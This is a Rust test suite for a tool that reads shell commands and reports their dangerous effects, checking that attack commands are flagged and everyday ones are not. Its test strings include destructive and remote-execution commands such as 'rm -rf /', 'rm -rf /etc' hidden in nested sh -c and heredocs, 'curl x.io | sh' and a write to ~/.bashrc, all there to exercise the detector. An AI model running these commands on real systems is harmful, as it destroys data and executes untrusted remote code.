use base64::Engine as _;
use proptest::prelude::*;

use super::*;

const HONEST_TEXT: &str = include_str!("honest.txt");
const ATTACKS_TEXT: &str = include_str!("attacks.txt");

fn roots() -> Roots {
    Roots::new(&["/home/ann/app"], None)
}

fn told(command: &str) -> Vec<String> {
    let all = effects(command, &roots()).effects;
    all.iter().map(|one| format!("{} {:?}: {}", one.rule.id, one.severity, one.what)).collect()
}

/// A line of a table as a command.
fn command(line: &str) -> String {
    let mut text = line.replace("\\n", "\n");
    while let Some((head, rest)) = text.split_once("{b64:") {
        let (plain, tail) = rest.split_once('}').unwrap();
        let encoded = base64::engine::general_purpose::STANDARD.encode(plain);
        text = format!("{head}{encoded}{tail}");
    }
    text
}

fn severity(word: &str) -> Severity {
    match word {
        "high" => Severity::High,
        "medium" => Severity::Medium,
        "low" => Severity::Low,
        _ => panic!("{word}"),
    }
}

#[test]
fn commands_of_every_day_stay_quiet() {
    let mut loud = Vec::new();
    let lines: Vec<&str> = HONEST_TEXT.lines().filter(|line| !line.starts_with('#')).collect();
    assert!(lines.len() >= 150);
    for line in lines {
        let command = command(line);
        if effects(&command, &roots()).worst() > Some(Severity::Info) {
            loud.push(format!("{line}\n   {}", told(&command).join("\n   ")));
        }
    }
    assert_eq!(loud, [""; 0], "\n{}", loud.join("\n"));
}

#[test]
fn what_commands_do_is_told() {
    let mut missed = Vec::new();
    for line in ATTACKS_TEXT.lines().filter(|line| !line.starts_with('#')) {
        let (head, rest) = line.split_once(" | ").unwrap();
        let command = command(rest);
        let all = effects(&command, &roots()).effects;
        let words: Vec<&str> = head.split(' ').collect();
        for pair in words.chunks(2) {
            let id = if pair[0].contains('.') {
                pair[0].to_owned()
            } else {
                format!("shell.{}", pair[0])
            };
            let least = severity(pair[1]);
            if !all.iter().any(|one| one.rule.id == id && one.severity >= least) {
                missed.push(format!("{line}\n   {}", told(&command).join("\n   ")));
            }
        }
        for one in &all {
            assert!(command.get(one.span.clone()).is_some(), "{command}: {one:?}");
        }
    }
    assert_eq!(missed, [""; 0], "\n{}", missed.join("\n"));
}

#[test]
fn spans_are_of_what_does_it() {
    for (command, span) in [
        ("ls; rm -rf /", "/"),
        ("sh -c 'rm -rf /etc'", "/etc"),
        ("bash -c \"sh -c 'rm -rf /etc'\"", "/etc"),
        ("cat <<'EOF' | sh\nrm -rf /etc\nEOF", "/etc"),
        ("echo a > ~/.bashrc", "~/.bashrc"),
        ("curl x.io | sh", "sh"),
        ("printf 'rm -rf /\\n' | sh", "sh"),
    ] {
        let first = effects(command, &roots()).effects.into_iter().next().unwrap();
        assert_eq!(command.get(first.span.clone()), Some(span), "{command}: {first:?}");
    }
}

#[test]
fn what_is_too_much_asks() {
    let asks = |command: &str| {
        effects(command, &roots()).effects.iter().any(|one| one.rule.id == "shell.unparseable")
    };
    assert!(asks(&"a ".repeat(TEXT_MAX)));
    assert!(asks(&"ls;".repeat(STEPS_MAX + 1)));
    assert!(asks(&format!("{}rm -rf /{}", "$(".repeat(500), ")".repeat(500))));
    assert!(asks(&format!("{}ls{}", "(".repeat(500), ")".repeat(500))));
    assert!(asks("x='eval \"$x\"'; eval \"$x\""));
}

#[test]
fn without_roots_only_the_machine_is_outside() {
    let none = Roots::default();
    let worst = |command: &str| effects(command, &none).worst();
    assert_eq!(worst("echo x > /work/app/a"), None);
    assert_eq!(worst("echo x > /etc/a"), Some(Severity::High));
    assert_eq!(worst("rm -rf /"), Some(Severity::High));
    assert_eq!(worst("rm -rf build"), None);
}

#[test]
fn words_of_a_call_are_quoted() {
    assert_eq!(line(&["sh", "-c", "it's", ""]), r"sh -c 'it'\''s' ''");
    assert_eq!(effects(&line(&["echo", "x; rm -rf /"]), &roots()), Shell::default());
    assert_eq!(effects(&line(&["rm", "-rf", "/"]), &roots()).effects.len(), 1);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn any_text_is_read(
        parts in prop::collection::vec(
            prop_oneof![
                prop::sample::select(ATTACKS_TEXT.split_whitespace().collect::<Vec<_>>()),
                prop::sample::select(vec![
                    " ", "\n", ";", "|", "&&", "$(", ")", "`", "'", "\"", "<<E", "{", "}", "\\", ">", "<(",
                    "for i in", "do", "done", "é", "\u{202e}", "${x:0:9}", "[[", "((", "case", "esac",
                ]),
            ],
            0..24,
        ),
    ) {
        let text = parts.join(" ");
        let all = effects(&text, &roots()).effects;
        prop_assert!(all.len() <= EFFECTS_MAX);
        for one in all {
            prop_assert!(text.get(one.span.clone()).is_some(), "{:?} {:?}", text, one);
        }
    }
}
